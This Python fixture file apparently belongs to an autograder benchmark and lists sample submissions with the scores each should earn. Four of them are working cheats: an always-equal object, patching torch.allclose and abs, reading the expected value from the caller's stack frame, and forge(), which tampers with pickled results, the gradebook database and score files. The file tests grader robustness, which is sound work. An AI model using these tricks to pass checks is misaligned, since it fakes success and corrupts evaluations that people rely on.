"""Submissions on which graders differ, and the points that each has earned of the ten.

Nothing here leaves the folder of its own grading: otter-grader and nbgrader run it unprotected.
"""

import inspect
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from benchmarks.graders import functions
from benchmarks.graders.formats import FUNCTIONS, sources

RIGHT = sources(functions)


@dataclass(frozen=True)
class Submission:
    """What a student hands in: an answer for each function, and a cell before them."""

    earned: float
    answers: dict[str, str] = field(default_factory=lambda: dict(RIGHT))
    first: str = ""


def every(prepare: Callable[..., Any], line: str) -> dict[str, str]:
    """Answers that implement nothing: each function does ``line`` and no more."""
    head = inspect.getsource(prepare) + "\n\n"
    found = {name: f"def {name}(*arguments):\n    {line}" for name in FUNCTIONS}
    return found | {FUNCTIONS[0]: head + found[FUNCTIONS[0]]}


def anything():
    """An object that equals everything, and that torch's functions accept."""

    class Anything:
        def __eq__(self, other):
            return True

        def __call__(self, *arguments, **options):
            return self

        def __getattr__(self, name):
            return self

        def __float__(self):
            return 0.0

        @classmethod
        def __torch_function__(cls, function, types, arguments=(), options=None):
            return True

    return Anything()


def patched(first):
    """Every comparison says yes from now on."""
    import builtins

    import torch

    vars(torch)["allclose"] = lambda *arguments, **options: True
    vars(builtins)["abs"] = lambda number: 0
    return 0.0 * first


def peek():
    """The expected value, read from whoever calls."""
    import inspect

    frame = inspect.currentframe()
    while frame is not None:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"].clone().requires_grad_()
        frame = frame.f_back
    raise RuntimeError("nothing found")


def forge():
    """Files that say ten points, wherever the grader may keep its results."""
    import atexit
    import glob
    import json
    import pickle
    import sqlite3
    import tempfile

    def results_of_otter():
        for path in glob.glob(f"{tempfile.gettempdir()}/*.pkl"):
            with open(path, "rb") as file:
                results = pickle.load(file)
            for test in results.results.values():
                test._score = 2
            with open(path, "wb") as file:
                pickle.dump(results, file)

    atexit.register(results_of_otter)
    for path in glob.glob("../../../gradebook.db"):  # of this course folder
        with sqlite3.connect(path) as database:
            database.execute(
                "create trigger if not exists kind after update on grade "
                "begin update grade set auto_score = 1 where id = new.id; end"
            )
    for name in ("results.json", "grades.csv"):
        with open(name, "w") as file:
            json.dump({"score": 10, "tests": [{"name": "all", "score": 10, "max_score": 10}]}, file)


def changed(name: str, old: str, new: str) -> dict[str, str]:
    """The right answers but for one replacement."""
    assert old in RIGHT[name]
    return RIGHT | {name: RIGHT[name].replace(old, new)}


WARN = 'import warnings\n\n    warnings.warn("this is slow", stacklevel=2)\n    return '
PLAIN = ("right", "wrong in one value")  # no grader may be wrong about these
BEHAVIOURS = {
    "right": Submission(10),
    "wrong in one value": Submission(9, changed("gaussian_kl", "- 1", "+ 1")),
    "right, with a warning in each function": Submission(
        10, {name: text.replace("return ", WARN) for name, text in RIGHT.items()}
    ),
    "right, after a broken cell": Submission(10, first="for i in range(3)\n    print(i)"),
    "an endless loop in one function": Submission(
        8, changed("log_mean_exp", "return ", "while True:\n        pass\n    return ")
    ),
    "an object that equals everything": Submission(0, every(anything, "return anything()")),
    "comparisons patched": Submission(0, every(patched, "return patched(arguments[0])")),
    "the expected value read from the caller": Submission(0, every(peek, "return peek()")),
    "results forged on disk": Submission(0, every(forge, "forge()")),
}
